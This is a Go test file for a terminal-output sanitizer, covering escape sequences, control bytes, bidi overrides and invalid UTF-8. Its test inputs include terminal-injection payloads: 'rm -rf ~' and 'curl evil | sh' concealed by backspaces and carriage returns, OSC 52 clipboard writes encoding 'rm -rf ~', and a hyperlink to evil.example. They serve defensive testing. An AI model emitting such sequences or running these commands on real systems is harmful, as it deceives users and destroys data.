package termsafe

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
)

// hostile holds every kind of sequence and control a terminal acts on.
var hostile = []struct{ name, in, want string }{
	{"plain", "plain text\nlines\tand tabs", "plain text\nlines\tand tabs"},
	{"unicode kept", "ünïcödé ✓ 日本語 e\u0301 👩‍💻", "ünïcödé ✓ 日本語 e\u0301 👩‍💻"},
	{"sgr colour", "\x1b[31mred\x1b[0m", "red"},
	{"clear screen", "a\x1b[2Jb\x1b[H", "ab"},
	{"erase line", "ls\x1b[2K\r harmless", "ls\n harmless"},
	{"osc 52 clipboard bel", "x\x1b]52;c;cm0gLXJmIH4K\ay", "xy"},
	{"osc 52 clipboard st", "x\x1b]52;c;cm0gLXJmIH4K\x1b\\y", "xy"},
	{"osc title", "\x1b]0;pwned\atext", "text"},
	{"osc 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"},
	{"osc utf8 payload", "\x1b]0;tïtle ✓\aok", "ok"},
	{"dcs", "a\x1bP1$r0m\x1b\\b", "ab"},
	{"apc", "a\x1b_Gf=100;AAAA\x1b\\b", "ab"},
	{"pm", "a\x1b^privacy\x1b\\b", "ab"},
	{"sos", "a\x1bXstring\x1b\\b", "ab"},
	{"ss2 ss3", "a\x1bNb\x1bOc", "abc"},
	{"esc anything", "a\x1bcb\x1b7c\x1b#8d", "abcd"},
	{"8-bit csi", "a\x9b2Jb", "ab"},
	{"8-bit osc", "a\x9d52;c;Zm9v\x07b", "ab"},
	{"8-bit osc st", "a\x9d0;t\x9cb", "ab"},
	{"8-bit dcs", "a\x90q#0\x9cb", "ab"},
	{"8-bit ss2", "a\x8eb", "ab"},
	{"c1 as utf-8 csi", "a\u009b2Jb", "ab"},
	{"c1 as utf-8 osc", "a\u009d0;title\u0007b", "ab"},
	{"c1 as utf-8 nel", "a\u0085b", "ab"},
	{"bel nul del", "bell\a nul\x00 del\x7f", "bell nul del"},
	{"backspace overwrite", "rm -rf ~\b\b\b\b\b\b\bls", "rm -rf ~ls"},
	{"cr overwrite", "curl evil | sh\rls -l          ", "curl evil | sh\nls -l          "},
	{"progress", "10%\r50%\r100%\n", "10%\n50%\n100%\n"},
	{"crlf", "a\r\nb\r\n", "a\nb\n"},
	{"cr cr lf", "a\r\r\nb", "a\nb"},
	{"cr then sequence then lf", "a\r\x1b[K\nb", "a\nb"},
	{"invalid utf-8", "a\xffb\xfe\xc0\xc1c", "a\uFFFDb\uFFFD\uFFFD\uFFFDc"},
	{"truncated utf-8", "a\xe2\x9cb", "a\uFFFDb"},
	{"truncated at end", "a\xe2\x9c", "a\uFFFD"},
	{"utf-8 cut by esc", "a\xe2\x1b[31mb", "a\uFFFDb"},
	{"surrogate", "a\xed\xa0\x80b", "a\uFFFDb"},
	{"bidi override", "ab\u202edc\u202c \u2066x\u2069", "abdc x"},
	{"unterminated osc", "a\x1b]52;c;Zm9v", "a"},
	{"can aborts", "a\x1b]0;t\x18b", "ab"},
	{"vertical tab form feed", "a\vb\fc", "abc"},
	{"literal replacement char", "\uFFFD", "\uFFFD"},
}

func TestClean(t *testing.T) {
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			got := Clean(tc.in)
			if got != tc.want {
				t.Errorf("Clean(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if bad := forbidden(got); bad != "" {
				t.Errorf("Clean(%q) = %q still holds %s", tc.in, got, bad)
			}
			if Clean(got) != got || !IsClean(got) {
				t.Errorf("Clean is not idempotent on %q", got)
			}
			if IsClean(tc.in) != (tc.in == tc.want) {
				t.Errorf("IsClean(%q) = %v", tc.in, IsClean(tc.in))
			}
		})
	}
}

// Every split of the input over two writes gives what Clean gives whole:
// a sequence or a character cut between two chunks of a stream is handled
// as if it had arrived at once.
func TestWriterSplits(t *testing.T) {
	for _, tc := range hostile {
		for cut := 0; cut <= len(tc.in); cut++ {
			for cut2 := cut; cut2 <= len(tc.in); cut2 += max(1, len(tc.in)/4) {
				var out bytes.Buffer
				w := NewWriter(&out)
				for _, part := range []string{tc.in[:cut], tc.in[cut:cut2], tc.in[cut2:]} {
					if _, err := w.WriteString(part); err != nil {
						t.Fatal(err)
					}
				}
				if err := w.Flush(); err != nil {
					t.Fatal(err)
				}
				if out.String() != tc.want {
					t.Fatalf("%s: written as %q|%q|%q: got %q, want %q", tc.name, tc.in[:cut], tc.in[cut:cut2], tc.in[cut2:], out.String(), tc.want)
				}
			}
		}
	}
}

// Flush ends a hostile unfinished sequence so what follows is shown.
func TestWriterFlushEndsSequence(t *testing.T) {
	var out bytes.Buffer
	w := NewWriter(&out)
	_, _ = w.WriteString("answer\x1b]52;c;unterminated")
	_ = w.Flush()
	_, _ = w.WriteString("next line\n")
	if got := out.String(); got != "answernext line\n" {
		t.Fatalf("got %q", got)
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errFail }

var errFail = bytes.ErrTooLarge

func TestWriterReportsErrors(t *testing.T) {
	w := NewWriter(failWriter{})
	if n, err := w.WriteString("text"); err == nil || n != 0 {
		t.Fatalf("want the underlying error, got %d, %v", n, err)
	}
	// Nothing to write: no error even on a broken writer.
	if _, err := w.WriteString("\x1b[2J"); err != nil {
		t.Fatalf("nothing written, yet %v", err)
	}
}

func TestVisible(t *testing.T) {
	cases := []struct{ in, want string }{
		{"ls -l", "ls -l"},
		{`grep 'a\|b' ~/x`, `grep 'a\|b' ~/x`},
		{"日本語 ✓", "日本語 ✓"},
		{"ls\x1b[2K\r harmless", `ls\x1b[2K\r harmless`},
		{"rm -rf ~\x1b]0;t\a", `rm -rf ~\x1b]0;t\x07`},
		{"a\tb\nc", `a\tb\nc`},
		{"a\\b\x00", `a\\b\x00`},
		{"c1 \u009b2J", `c1 \u009b2J`},
		{"raw c1 \x9b2J", `raw c1 \x9b2J`},
		{"bad \xff", `bad \xff`},
		{"bidi \u202egnp.exe", `bidi \u202egnp.exe`},
		{"zero\u200bwidth", `zero\u200bwidth`},
		{"nb\u00a0space", `nb\u00a0space`},
		{"del\x7f", `del\x7f`},
		{"tag \U000e0041", `tag \U000e0041`},
	}
	for _, tc := range cases {
		got := Visible(tc.in)
		if got != tc.want {
			t.Errorf("Visible(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if bad := forbidden(got); bad != "" || strings.ContainsAny(got, "\t\n") {
			t.Errorf("Visible(%q) = %q holds a control character", tc.in, got)
		}
		if NeedsEscape(tc.in) != (tc.in != tc.want) {
			t.Errorf("NeedsEscape(%q) = %v", tc.in, NeedsEscape(tc.in))
		}
	}
}

// forbidden names the first byte or character in s a terminal would act
// on, or returns "".
func forbidden(s string) string {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x20 && c != '\n' && c != '\t' || c == 0x7f {
			return fmt.Sprintf("control byte %#02x", c)
		}
	}
	for _, r := range s {
		if r >= 0x80 && r <= 0x9f || isBidiControl(r) {
			return "control character " + string(r)
		}
	}
	if !validUTF8(s) {
		return "invalid UTF-8"
	}
	return ""
}
